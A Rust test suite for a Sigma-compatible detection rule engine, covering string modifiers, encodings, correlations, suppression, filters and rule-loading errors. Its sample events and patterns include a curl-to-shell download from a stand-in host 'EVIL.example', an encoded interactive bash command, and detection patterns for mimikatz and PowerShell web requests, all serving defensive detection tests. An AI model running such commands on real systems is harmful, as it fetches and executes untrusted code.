//! End-to-end tests of the rule engine: every modifier and condition form through a whole rule,
//! correlations on event time, suppression, and the SigmaHQ corpus and spec test rules.

use std::path::{Path, PathBuf};
use std::sync::Arc;

use super::*;
use crate::event::{intern, Event, Kind, LogSource, Timestamp, Value};

fn set(yaml: &str) -> RuleSet {
    let (set, report) =
        RuleSet::from_sources(&[(Path::new("t.yml"), yaml)], &LoadOptions::default());
    assert!(report.errors.is_empty(), "{report}");
    set
}

fn ev(ts_s: i64, fields: &[(&str, Value)]) -> Event {
    let mut e = Event::new(
        Timestamp::from_secs_nanos(ts_s, 0),
        Kind::Log,
        LogSource::product_service("linux", "auditd"),
    );
    for (k, v) in fields {
        e.fields.push(intern(k), v.clone());
    }
    e
}

fn s(v: &str) -> Value {
    Value::Str(v.into())
}

fn detect(rule_detection: &str, event: &Event) -> bool {
    let yaml =
        format!("title: t\nid: r1\nlogsource:\n  product: linux\ndetection:\n{rule_detection}");
    let mut e = Engine::new(Arc::new(set(&yaml)));
    let mut out = Vec::new();
    e.process(event, &mut out);
    !out.is_empty()
}

#[test]
fn plain_values_are_case_insensitive_exact() {
    let e = ev(0, &[("comm", s("Bash"))]);
    assert!(detect("  sel:\n    comm: bash\n  condition: sel\n", &e));
    assert!(!detect("  sel:\n    comm: bas\n  condition: sel\n", &e));
    assert!(!detect(
        "  sel:\n    comm|cased: bash\n  condition: sel\n",
        &e
    ));
    assert!(detect(
        "  sel:\n    comm|cased: Bash\n  condition: sel\n",
        &e
    ));
}

#[test]
fn string_modifiers_and_wildcards() {
    let e = ev(
        0,
        &[(
            "CommandLine",
            s("/usr/bin/curl -s http://EVIL.example/x.sh | sh"),
        )],
    );
    assert!(detect(
        "  sel:\n    CommandLine|contains: evil.example\n  condition: sel\n",
        &e
    ));
    assert!(detect(
        "  sel:\n    CommandLine|startswith: /usr/bin/curl\n  condition: sel\n",
        &e
    ));
    assert!(detect(
        "  sel:\n    CommandLine|endswith: '| sh'\n  condition: sel\n",
        &e
    ));
    assert!(detect(
        "  sel:\n    CommandLine: '*curl*http://*.sh*'\n  condition: sel\n",
        &e
    ));
    assert!(detect(
        "  sel:\n    CommandLine: '/usr/bin/cur? *'\n  condition: sel\n",
        &e
    ));
    assert!(!detect(
        "  sel:\n    CommandLine: 'curl*'\n  condition: sel\n",
        &e
    ));
    assert!(detect(
        "  sel:\n    CommandLine|contains|all: [curl, ' | sh']\n  condition: sel\n",
        &e
    ));
    assert!(!detect(
        "  sel:\n    CommandLine|contains|all: [curl, wget]\n  condition: sel\n",
        &e
    ));
    assert!(detect(
        "  sel:\n    CommandLine|contains: [wget, curl]\n  condition: sel\n",
        &e
    ));
    let star = ev(0, &[("a", s("x*y"))]);
    assert!(detect("  sel:\n    a: 'x\\*y'\n  condition: sel\n", &star));
    assert!(!detect(
        "  sel:\n    a: 'x\\*y'\n  condition: sel\n",
        &ev(0, &[("a", s("xzy"))])
    ));
}

#[test]
fn regex_and_flags() {
    let e = ev(0, &[("a", s("Hello\nWorld"))]);
    assert!(detect("  sel:\n    a|re: '^Hello'\n  condition: sel\n", &e));
    assert!(!detect(
        "  sel:\n    a|re: '^hello'\n  condition: sel\n",
        &e
    ));
    assert!(detect(
        "  sel:\n    a|re|i: '^hello'\n  condition: sel\n",
        &e
    ));
    assert!(!detect(
        "  sel:\n    a|re: '^World'\n  condition: sel\n",
        &e
    ));
    assert!(detect(
        "  sel:\n    a|re|m: '^World'\n  condition: sel\n",
        &e
    ));
    assert!(!detect(
        "  sel:\n    a|re: 'Hello.World'\n  condition: sel\n",
        &e
    ));
    assert!(detect(
        "  sel:\n    a|re|s: 'Hello.World'\n  condition: sel\n",
        &e
    ));
}

#[test]
fn cidr_numbers_exists_null() {
    let e = ev(
        0,
        &[
            ("dst_ip", Value::Ip("10.1.2.3".parse().unwrap())),
            ("src_ip", s("192.168.1.9")),
            ("dst_port", Value::Int(22)),
            ("empty", Value::Null),
        ],
    );
    assert!(detect(
        "  sel:\n    dst_ip|cidr: 10.0.0.0/8\n  condition: sel\n",
        &e
    ));
    assert!(detect(
        "  sel:\n    src_ip|cidr: [10.0.0.0/8, 192.168.0.0/16]\n  condition: sel\n",
        &e
    ));
    assert!(!detect(
        "  sel:\n    src_ip|cidr: 10.0.0.0/8\n  condition: sel\n",
        &e
    ));
    assert!(detect(
        "  sel:\n    dst_port|gt: 21\n  condition: sel\n",
        &e
    ));
    assert!(detect(
        "  sel:\n    dst_port|gte: 22\n  condition: sel\n",
        &e
    ));
    assert!(!detect(
        "  sel:\n    dst_port|lt: 22\n  condition: sel\n",
        &e
    ));
    assert!(detect(
        "  sel:\n    dst_port|lte: 22\n  condition: sel\n",
        &e
    ));
    assert!(detect("  sel:\n    dst_port: 22\n  condition: sel\n", &e));
    assert!(detect("  sel:\n    dst_port: '22'\n  condition: sel\n", &e));
    assert!(detect(
        "  sel:\n    dst_port|exists: true\n  condition: sel\n",
        &e
    ));
    assert!(detect(
        "  sel:\n    nope|exists: false\n  condition: sel\n",
        &e
    ));
    assert!(detect("  sel:\n    nope: null\n  condition: sel\n", &e));
    assert!(detect("  sel:\n    empty: null\n  condition: sel\n", &e));
    assert!(!detect(
        "  sel:\n    dst_port: null\n  condition: sel\n",
        &e
    ));
    assert!(detect(
        "  sel:\n    dst_port|neq: 23\n  condition: sel\n",
        &e
    ));
}

#[test]
fn fieldref_and_field_mapping() {
    let e = ev(
        0,
        &[
            ("user", s("root")),
            ("target", s("ROOT")),
            ("dst_ip", s("1.2.3.4")),
        ],
    );
    assert!(detect(
        "  sel:\n    user|fieldref: target\n  condition: sel\n",
        &e
    ));
    assert!(!detect(
        "  sel:\n    user|fieldref: dst_ip\n  condition: sel\n",
        &e
    ));
    // Sigma's DestinationIp reads vigil's dst_ip.
    assert!(detect(
        "  sel:\n    DestinationIp: 1.2.3.4\n  condition: sel\n",
        &e
    ));
}

#[test]
fn encodings() {
    // "ping" base64: cGluZw==
    let e = ev(0, &[("a", s("x cGluZw== y"))]);
    assert!(detect(
        "  sel:\n    a|base64|contains: ping\n  condition: sel\n",
        &e
    ));
    // base64offset finds the value at any offset of a longer base64 text.
    let enc = "ZWNobyAvYmluL2Jhc2ggLWk="; // "echo /bin/bash -i"
    assert!(detect(
        "  sel:\n    a|base64offset|contains: /bin/bash\n  condition: sel\n",
        &ev(0, &[("a", s(enc))])
    ));
    // utf16le then base64 (PowerShell -enc style): "cmd" -> YwBtAGQA
    let e = ev(0, &[("a", s("-enc YwBtAGQA"))]);
    assert!(detect(
        "  sel:\n    a|utf16le|base64offset|contains: cmd\n  condition: sel\n",
        &e
    ));
    assert!(detect(
        "  sel:\n    a|wide|base64offset|contains: cmd\n  condition: sel\n",
        &e
    ));
    let e = ev(0, &[("a", s("AGMAbQBk"))]); // utf16be "cmd" base64
    assert!(detect(
        "  sel:\n    a|utf16be|base64|contains: cmd\n  condition: sel\n",
        &e
    ));
    let e = ev(0, &[("a", s("//5jAG0AZAA="))]); // utf16 with BOM
    assert!(detect(
        "  sel:\n    a|utf16|base64: cmd\n  condition: sel\n",
        &e
    ));
}

#[test]
fn windash() {
    for cl in ["net user /add", "net user -add", "net user \u{2013}add"] {
        let e = ev(0, &[("CommandLine", s(cl))]);
        assert!(
            detect(
                "  sel:\n    CommandLine|windash|contains: ' -add'\n  condition: sel\n",
                &e
            ),
            "{cl}"
        );
    }
}

#[test]
fn expand_binds_indicator_lists() {
    let mut opts = LoadOptions::default();
    opts.indicators
        .insert("admins".into(), vec!["alice".into(), "bob".into()]);
    let yaml = "title: t\nlogsource: {product: linux}\ndetection:\n  sel:\n    user|expand: '%admins%'\n  condition: sel\n";
    let (set, report) = RuleSet::from_sources(&[(Path::new("t.yml"), yaml)], &opts);
    assert!(report.errors.is_empty(), "{report}");
    let mut e = Engine::new(Arc::new(set));
    let mut out = Vec::new();
    e.process(&ev(0, &[("user", s("Bob"))]), &mut out);
    e.process(&ev(0, &[("user", s("eve"))]), &mut out);
    assert_eq!(out.len(), 1);
    let (_, report) = RuleSet::from_sources(&[(Path::new("t.yml"), yaml)], &LoadOptions::default());
    assert!(report.errors[0].message.contains("admins.txt"));
}

#[test]
fn keywords_and_lists() {
    let e = ev(
        0,
        &[
            ("msg", s("Accepted password for ROOT")),
            ("tags", Value::List(vec![s("a"), s("b")])),
        ],
    );
    assert!(detect(
        "  keywords:\n    - 'password for root'\n    - zzz\n  condition: keywords\n",
        &e
    ));
    assert!(detect(
        "  keywords: 'pass*root'\n  condition: keywords\n",
        &e
    ));
    assert!(!detect(
        "  keywords:\n    - nothing\n  condition: keywords\n",
        &e
    ));
    assert!(detect(
        "  sel:\n    '|all':\n      - accepted\n      - root\n  condition: sel\n",
        &e
    ));
    assert!(detect("  sel:\n    tags: b\n  condition: sel\n", &e));
    assert!(detect(
        "  sel:\n    - msg: nope\n    - tags: a\n  condition: sel\n",
        &e
    ));
}

#[test]
fn condition_forms() {
    let e = ev(0, &[("a", s("1")), ("b", s("2"))]);
    let sels =
        "  sel_a:\n    a: 1\n  sel_b:\n    b: 2\n  filter_x:\n    a: 9\n  _hidden:\n    a: 7\n";
    for (cond, want) in [
        ("sel_a and sel_b", true),
        ("sel_a and not sel_b", false),
        ("sel_a or filter_x", true),
        ("not (sel_a or filter_x)", false),
        ("all of sel_*", true),
        ("1 of filter*", false),
        ("1 of them", true),
        ("all of them", false),
        ("all of sel_* and not 1 of filter*", true),
        ("(sel_a and (sel_b or filter_x)) and not _hidden", true),
    ] {
        assert_eq!(
            detect(&format!("{sels}  condition: {cond}\n"), &e),
            want,
            "{cond}"
        );
    }
}

#[test]
fn nested_paths() {
    let v = Value::from_json(
        serde_json::json!({"spec": {"containers": [{"image": "nginx"}, {"image": "evil"}]}}),
    );
    let Value::Map(m) = v else { panic!() };
    let mut e = ev(0, &[]);
    e.fields = m;
    assert!(detect(
        "  sel:\n    spec.containers.image: evil\n  condition: sel\n",
        &e
    ));
}

#[test]
fn logsource_routing() {
    let yaml = "title: t\nlogsource:\n  product: linux\n  service: sshd\ndetection:\n  sel:\n    a: x\n  condition: sel\n";
    let rs = Arc::new(set(yaml));
    let mut engine = Engine::new(rs);
    let mut out = Vec::new();
    let mut e = ev(0, &[("a", s("x"))]);
    engine.process(&e, &mut out);
    assert!(out.is_empty(), "auditd event must not reach an sshd rule");
    e.logsource = LogSource::product_service("linux", "sshd");
    engine.process(&e, &mut out);
    assert_eq!(out.len(), 1);
    let opts = LoadOptions {
        logsource_any: true,
        ..LoadOptions::default()
    };
    let (any, _) = RuleSet::from_sources(&[(Path::new("t.yml"), yaml)], &opts);
    let mut engine = Engine::new(Arc::new(any));
    e.logsource = LogSource::default();
    engine.process(&e, &mut out);
    assert_eq!(out.len(), 2);
    assert_eq!(
        parse_logsource_spec("product=linux,service=auditd").unwrap(),
        Some(LogSource::product_service("linux", "auditd"))
    );
    assert_eq!(parse_logsource_spec("any").unwrap(), None);
    assert!(parse_logsource_spec("prodct=x").is_err());
}

const FLOW_RULES: &str = "title: Flow to port
id: flow-any
name: flow_any
logsource:
  category: flow
detection:
  sel:
    proto: tcp
  condition: sel
---
title: Port scan
id: scan
correlation:
  type: value_count
  rules: [flow_any]
  group-by: [src_ip, dst_ip]
  timespan: 10s
  condition:
    field: dst_port
    gte: 5
level: high
";

fn flow(ts_ns: i64, dport: i64) -> Event {
    let mut e = Event::new(Timestamp(ts_ns), Kind::Flow, LogSource::category("flow"));
    e.fields.push(
        crate::event::f::SRC_IP,
        Value::Ip("10.0.0.1".parse().unwrap()),
    );
    e.fields.push(
        crate::event::f::DST_IP,
        Value::Ip("10.0.0.2".parse().unwrap()),
    );
    e.fields.push(crate::event::f::DST_PORT, dport);
    e.fields.push(crate::event::f::PROTO, "tcp");
    e
}

fn run(rs: &Arc<RuleSet>, evs: &[Event]) -> Vec<Alert> {
    let mut e = Engine::new(rs.clone());
    let mut out = Vec::new();
    e.process_batch(evs, &mut out);
    e.flush(Timestamp(i64::MAX), &mut out);
    out
}

#[test]
fn value_count_on_event_time() {
    let rs = Arc::new(set(FLOW_RULES));
    // 5 distinct ports within 10 s (4 repeats of port 80 do not count), then 5 more spread out.
    let mut evs = Vec::new();
    for (i, p) in [80, 80, 80, 80, 22, 23, 25, 443].iter().enumerate() {
        evs.push(flow(i as i64 * 1_000_000_000, *p));
    }
    for (i, p) in [1, 2, 3, 4, 5].iter().enumerate() {
        evs.push(flow(100_000_000_000 + i as i64 * 20_000_000_000, *p));
    }
    let out = run(&rs, &evs);
    assert_eq!(out.len(), 1, "{out:?}");
    let c = out[0].correlation.as_ref().unwrap();
    assert_eq!(c.count, 5.0);
    assert_eq!(
        c.group,
        [
            ("src_ip".into(), "10.0.0.1".into()),
            ("dst_ip".into(), "10.0.0.2".into())
        ]
    );
    assert_eq!(c.event_ids.len(), 8);
    // The member rule does not alert by itself (no `generate`).
    assert!(out.iter().all(|a| a.rule.id == "scan"));
    let json = serde_json::to_value(&out[0]).unwrap();
    assert_eq!(json["rule"]["id"], "scan");
    assert_eq!(json["count"], 5);
    assert_eq!(json["group"]["dst_ip"], "10.0.0.2");
    // Same alerts however the events are batched (replay speed does not exist for the engine;
    // only event time matters).
    let mut e = Engine::new(rs.clone());
    let mut out2 = Vec::new();
    for ev in &evs {
        e.process(ev, &mut out2);
    }
    e.flush(Timestamp(i64::MAX), &mut out2);
    assert_eq!(out2, out);
}

#[test]
fn event_count_temporal_and_ordered() {
    let rules = "title: A
name: a
logsource: {product: linux}
detection:
  sel: {k: a}
  condition: sel
---
title: B
name: b
logsource: {product: linux}
detection:
  sel: {k: b}
  condition: sel
---
title: three a
id: ec
correlation: {type: event_count, rules: [a], group-by: [u], timespan: 1m, condition: {gte: 3}}
---
title: a and b
id: tp
correlation: {type: temporal, rules: [a, b], group-by: [u], timespan: 1m}
---
title: b then a
id: to
correlation: {type: temporal_ordered, rules: [b, a], group-by: [u], timespan: 1m}
---
title: few a
id: few
correlation: {type: event_count, rules: [a], group-by: [u], timespan: 1m, condition: {lt: 2}, generate: true}
";
    let rs = Arc::new(set(rules));
    let e = |t: i64, k: &str, u: &str| ev(t, &[("k", s(k)), ("u", s(u))]);
    let out = run(
        &rs,
        &[
            e(0, "a", "x"),
            e(1, "a", "x"),
            e(2, "b", "x"),
            e(3, "a", "x"),
            e(200, "a", "y"),
        ],
    );
    let ids: Vec<&str> = out.iter().map(|a| a.rule.id.as_str()).collect();
    // generate: true on `few` makes A alert by itself (4 events of k=a).
    assert_eq!(ids.iter().filter(|i| **i == "a").count(), 4, "{ids:?}");
    assert_eq!(ids.iter().filter(|i| **i == "ec").count(), 1);
    assert_eq!(ids.iter().filter(|i| **i == "tp").count(), 1);
    assert_eq!(ids.iter().filter(|i| **i == "to").count(), 1);
    // `lt: 2` is decided when the window closes: only user y had fewer than 2.
    let few: Vec<_> = out.iter().filter(|a| a.rule.id == "few").collect();
    assert_eq!(few.len(), 1);
    assert_eq!(few[0].correlation.as_ref().unwrap().group[0].1, "y");
}

#[test]
fn correlation_groups_are_bounded() {
    let opts = LoadOptions {
        max_groups: 10,
        ..LoadOptions::default()
    };
    let (rs, report) = RuleSet::from_sources(&[(Path::new("t.yml"), FLOW_RULES)], &opts);
    assert!(report.errors.is_empty());
    let mut engine = Engine::new(Arc::new(rs));
    let mut out = Vec::new();
    for i in 0..100 {
        let mut e = flow(0, 1);
        e.fields.set(crate::event::f::SRC_IP, Value::Int(i));
        engine.process(&e, &mut out);
    }
    assert!(engine.state_size().0 <= 10);
    assert!(engine.evictions() >= 90);
}

#[test]
fn suppression_collapses_repeats() {
    let rules = "title: ssh
id: s
logsource: {category: flow}
detection:
  sel: {dst_port: 22}
  condition: sel
suppression:
  window: 1m
  group-by: [src_ip]
";
    let rs = Arc::new(set(rules));
    let evs: Vec<Event> = (0..10).map(|i| flow(i * 1_000_000_000, 22)).collect();
    let out = run(&rs, &evs);
    assert_eq!(out.len(), 2);
    assert_eq!(out[0].count, 1);
    assert_eq!(out[1].count, 10);
    // Global default applies to rules without their own block.
    let opts = LoadOptions {
        suppression: Some(SuppressionSpec {
            window_ns: 5_000_000_000,
            group_by: vec![],
        }),
        ..LoadOptions::default()
    };
    let plain = rules.replace("suppression:\n  window: 1m\n  group-by: [src_ip]\n", "");
    let (rs, _) = RuleSet::from_sources(&[(Path::new("t.yml"), plain.as_str())], &opts);
    let out = run(&Arc::new(rs), &evs);
    // windows [0,5) and [5,10): each a first alert plus a closing count of 5
    assert_eq!(
        out.iter().map(|a| a.count).collect::<Vec<_>>(),
        [1, 5, 1, 5]
    );
}

#[test]
fn filters_exclude() {
    let rules = "title: r
id: r
logsource: {product: linux}
detection:
  sel: {User|startswith: a}
  condition: sel
---
title: f
logsource: {product: linux}
filter:
  rules: [r]
  selection:
    User|startswith: adm_
  condition: selection
";
    let rs = Arc::new(set(rules));
    let out = run(
        &rs,
        &[
            ev(0, &[("User", s("alice"))]),
            ev(0, &[("User", s("adm_bob"))]),
        ],
    );
    assert_eq!(out.len(), 1);
}

#[test]
fn errors_name_file_line_and_fix() {
    let bad = "title: t\nlogsource: {product: linux}\ndetection:\n  sel:\n    a|contians: x\n  condition: sel\n";
    let (_, report) = RuleSet::from_sources(
        &[(Path::new("rules/foo.yml"), bad)],
        &LoadOptions::default(),
    );
    assert_eq!(
        report.errors[0].to_string(),
        "rules/foo.yml:5: unknown modifier '|contians'; did you mean 'contains'?"
    );
    let bad = "title: t\nlogsource: {product: linux}\ndetection:\n  sel:\n    a: x\n  condition: sel and filter\n";
    let (_, report) = RuleSet::from_sources(&[(Path::new("f.yml"), bad)], &LoadOptions::default());
    assert!(report.errors[0]
        .to_string()
        .starts_with("f.yml:6: condition names 'filter'"));
    let bad = "title: t\ndetection:\n  sel:\n    a|re: '(unclosed'\n  condition: sel\n";
    let (_, report) = RuleSet::from_sources(&[(Path::new("f.yml"), bad)], &LoadOptions::default());
    assert!(report.errors[0]
        .to_string()
        .starts_with("f.yml:4: invalid regular expression"));
}

fn corpus() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../shared/corpus")
}

#[test]
fn sigmahq_corpus_loads_whole() {
    let root = corpus().join("sigma/rules");
    assert!(root.exists(), "the corpus must be at {}", root.display());
    let files = rule_files(std::slice::from_ref(&root)).unwrap();
    assert_eq!(files.len(), 3141);
    let set = match RuleSet::load(&[root], &LoadOptions::default()) {
        Ok(s) => s,
        Err(report) => panic!("{} errors:\n{report}", report.errors.len()),
    };
    assert_eq!(set.len(), 3141);
}

#[test]
fn spec_test_rules_load() {
    let root = corpus().join("sigma-spec/tests");
    assert!(root.exists(), "the corpus must be at {}", root.display());
    let files = rule_files(&[root]).unwrap();
    assert!(files.len() >= 12, "spec test rules: {}", files.len());
    for file in files {
        let (set, report) =
            RuleSet::load_lenient(std::slice::from_ref(&file), &LoadOptions::default());
        assert!(report.errors.is_empty(), "{}: {report}", file.display());
        assert_eq!(set.len(), 1, "{}", file.display());
    }
}

#[test]
fn shipped_rules_pass_their_tests() {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("rules");
    assert_eq!(cli::check(std::slice::from_ref(&dir)), 0);
    assert_eq!(cli::test(&[dir]), 0);
}

#[test]
fn combined_alternatives_match_like_separate_ones() {
    let e = ev(
        0,
        &[
            ("c", s("run MIMIKATZ now")),
            ("ip", s("172.16.9.1")),
            ("h", s("xаy")),
        ],
    );
    let many = "  sel:\n    c|contains: [alpha, beta, gamma, mimikatz, delta]\n  condition: sel\n";
    assert!(detect(many, &e));
    assert!(!detect(
        "  sel:\n    c|contains: [alpha, beta, gamma, delta]\n  condition: sel\n",
        &e
    ));
    assert!(detect(
        "  sel:\n    c|re: ['^x', 'MIMI[K]ATZ', 'zzz$']\n  condition: sel\n",
        &e
    ));
    assert!(!detect(
        "  sel:\n    c|re: ['^x', 'mimikatz', 'zzz$']\n  condition: sel\n",
        &e
    ));
    assert!(detect(
        "  sel:\n    ip|cidr: [10.0.0.0/8, 172.16.0.0/12]\n  condition: sel\n",
        &e
    ));
    assert!(!detect(
        "  sel:\n    ip|cidr: [10.0.0.0/8, 192.168.0.0/16]\n  condition: sel\n",
        &e
    ));
    // Cyrillic 'а' (homoglyph lists): either case matches case-insensitively.
    let homoglyphs = "  sel:\n    h|contains: ['А', 'е', 'о', 'р']\n  condition: sel\n";
    assert!(detect(homoglyphs, &e));
}

#[test]
fn prefilter_screens_regex_and_emoji_rules() {
    let rules = "title: r
logsource: {product: linux}
detection:
  sel:
    c|re: 'invoke-(expression|webrequest)'
  condition: sel
---
title: e
logsource: {product: linux}
detection:
  sel:
    c|contains: ['\u{1F600}', '\u{1F601}', '\u{1F602}', '\u{1F603}']
  condition: sel
";
    let rs = set(rules);
    let (n, unscreened) = rs.prefilter_stats(&LogSource::product_service("linux", "auditd"));
    assert_eq!((n, unscreened), (2, 0));
    let rs = Arc::new(rs);
    let out = run(
        &rs,
        &[
            ev(0, &[("c", s("x invoke-webrequest y"))]),
            ev(1, &[("c", s("hi \u{1F602}"))]),
        ],
    );
    assert_eq!(out.len(), 2);
}

#[test]
fn chained_correlations_and_aliases() {
    // The specification's example: many failed logins followed by a success, by user.
    let rules = "title: Failed logins then success
id: chain
correlation:
  type: temporal_ordered
  rules: [multiple_failed_login, successful_login]
  group-by: [User]
  timespan: 10m
level: high
---
title: Multiple failed logons
name: multiple_failed_login
correlation:
  type: event_count
  rules: [failed_login]
  group-by: [User]
  timespan: 10m
  condition: {gte: 3}
---
title: Failed login
name: failed_login
logsource: {product: linux}
detection:
  sel: {outcome: failure}
  condition: sel
---
title: Successful login
name: successful_login
logsource: {product: linux}
detection:
  sel: {outcome: success}
  condition: sel
---
title: error then connection from the same pair
id: alias
correlation:
  type: temporal
  rules: [internal_error, new_connection]
  group-by: [internal_ip]
  timespan: 10s
  aliases:
    internal_ip:
      internal_error: dst_ip
      new_connection: src_ip
---
title: internal error
name: internal_error
logsource: {product: linux}
detection:
  sel: {status: 500}
  condition: sel
---
title: new connection
name: new_connection
logsource: {product: linux}
detection:
  sel: {event: connect}
  condition: sel
";
    let rs = Arc::new(set(rules));
    let login =
        |t: i64, user: &str, outcome: &str| ev(t, &[("User", s(user)), ("outcome", s(outcome))]);
    let out = run(
        &rs,
        &[
            login(0, "bob", "failure"),
            login(1, "bob", "failure"),
            login(2, "eve", "success"),
            login(3, "bob", "failure"),
            login(4, "bob", "success"),
        ],
    );
    let ids: Vec<&str> = out.iter().map(|a| a.rule.id.as_str()).collect();
    assert_eq!(ids, ["chain"], "{out:?}");
    assert_eq!(
        out[0].correlation.as_ref().unwrap().group,
        [("User".to_string(), "bob".to_string())]
    );

    let out = run(
        &rs,
        &[
            ev(0, &[("status", Value::Int(500)), ("dst_ip", s("10.0.0.5"))]),
            ev(1, &[("event", s("connect")), ("src_ip", s("10.0.0.9"))]),
            ev(2, &[("event", s("connect")), ("src_ip", s("10.0.0.5"))]),
        ],
    );
    let ids: Vec<&str> = out.iter().map(|a| a.rule.id.as_str()).collect();
    assert_eq!(ids, ["alias"]);
    assert_eq!(out[0].correlation.as_ref().unwrap().group[0].1, "10.0.0.5");
}

#[test]
fn same_alerts_whatever_the_batching() {
    let rs = Arc::new(set(FLOW_RULES));
    let evs: Vec<Event> = (0..200).map(|i| flow(i * 700_000_000, i % 13)).collect();
    let reference = run(&rs, &evs);
    assert!(!reference.is_empty());
    for size in [1, 7, 64, 1000] {
        let mut e = Engine::new(rs.clone());
        let mut out = Vec::new();
        for chunk in evs.chunks(size) {
            e.process_batch(chunk, &mut out);
        }
        e.flush(Timestamp(i64::MAX), &mut out);
        assert_eq!(out, reference, "batch size {size}");
    }
}

#[test]
fn indicator_lists_load_from_files() {
    let dir = std::env::temp_dir().join(format!("vigil-indicators-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("bad_hosts.txt"),
        "# known bad\nevil.example\n\nworse.example\n",
    )
    .unwrap();
    let opts = LoadOptions {
        indicator_dirs: vec![dir.clone()],
        ..LoadOptions::default()
    };
    let yaml = "title: t\nlogsource: {product: linux}\ndetection:\n  sel:\n    query|expand|endswith: '%bad_hosts%'\n  condition: sel\n";
    let (set, report) = RuleSet::from_sources(&[(Path::new("t.yml"), yaml)], &opts);
    assert!(report.errors.is_empty(), "{report}");
    let out = run(
        &Arc::new(set),
        &[
            ev(0, &[("query", s("a.WORSE.example"))]),
            ev(1, &[("query", s("ok.example"))]),
        ],
    );
    assert_eq!(out.len(), 1);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn value_sum_and_avg() {
    let rules = "title: upload
name: upload
logsource: {product: linux}
detection:
  sel: {action: upload}
  condition: sel
---
title: big uploads
id: sum
correlation: {type: value_sum, rules: [upload], group-by: [user], timespan: 1h, condition: {field: bytes, gt: 1000}}
---
title: large average
id: avg
correlation: {type: value_avg, rules: [upload], group-by: [user], timespan: 1h, condition: {field: bytes, gte: 400}, generate: true}
";
    let rs = Arc::new(set(rules));
    let up = |t: i64, b: i64| {
        ev(
            t,
            &[
                ("action", s("upload")),
                ("user", s("u")),
                ("bytes", Value::Int(b)),
            ],
        )
    };
    let out = run(&rs, &[up(0, 500), up(1, 300), up(2, 300)]);
    let ids: Vec<&str> = out.iter().map(|a| a.rule.id.as_str()).collect();
    // avg 500 >= 400 fires at once (then resets); the sum passes 1000 at the third upload.
    assert_eq!(ids, ["upload", "avg", "upload", "upload", "sum"], "{ids:?}");
    assert_eq!(out[4].correlation.as_ref().unwrap().count, 1100.0);
}

#[test]
fn shareable_across_threads() {
    fn send_sync<T: Send + Sync>() {}
    fn send<T: Send>() {}
    send_sync::<RuleSet>();
    send_sync::<Alert>();
    send::<Engine>();
    send_sync::<RuleStore>();
}

#[test]
fn alert_json_shape() {
    let rs = Arc::new(set(FLOW_RULES));
    let evs: Vec<Event> = [80, 22, 23, 25, 443]
        .iter()
        .enumerate()
        .map(|(i, p)| flow(i as i64 * 1_000_000_000, *p))
        .collect();
    let out = run(&rs, &evs);
    let mut json = serde_json::to_value(&out[0]).unwrap();
    json["event_ids"] = serde_json::json!(["..."]);
    json["event"] = serde_json::json!({});
    assert_eq!(
        json.to_string(),
        r#"{"correlation":"value_count","count":5,"dst_ip":"10.0.0.2","event":{},"event_ids":["..."],"group":{"dst_ip":"10.0.0.2","src_ip":"10.0.0.1"},"incident_id":null,"rule":{"id":"scan","level":"high","tags":[],"title":"Port scan"},"src_ip":"10.0.0.1","summary":"Port scan: value_count 5 for src_ip=10.0.0.1, dst_ip=10.0.0.2","tenant":null,"ts":"1970-01-01T00:00:04.000000Z"}"#
    );
}

#[test]
fn yaml_syntax_and_structure_errors_point_at_lines() {
    let cases = [
        ("title: t\ndetection:\n  sel: [a, b\n  condition: sel\n", "YAML syntax"),
        ("title: t\nlevel: hihg\nlogsource: {product: x}\ndetection:\n  sel: {a: b}\n  condition: sel\n", "unknown level 'hihg'; did you mean 'high'?"),
        ("title: t\ndetecton:\n  sel: {a: b}\n", "looks like a misspelling of 'detection'"),
        ("title: t\ndetection:\n  sel: {a: b}\n  condition: sel | count() > 5\n", "correlation rule"),
        ("title: t\ndetection:\n  sel: {a|hour: 5}\n  condition: sel\n", "time-part modifiers are not supported"),
    ];
    for (src, want) in cases {
        let (_, report) =
            RuleSet::from_sources(&[(Path::new("x.yml"), src)], &LoadOptions::default());
        let text = report.to_string();
        assert!(text.starts_with("x.yml:"), "{text}");
        assert!(text.contains(want), "{want}: {text}");
    }
}
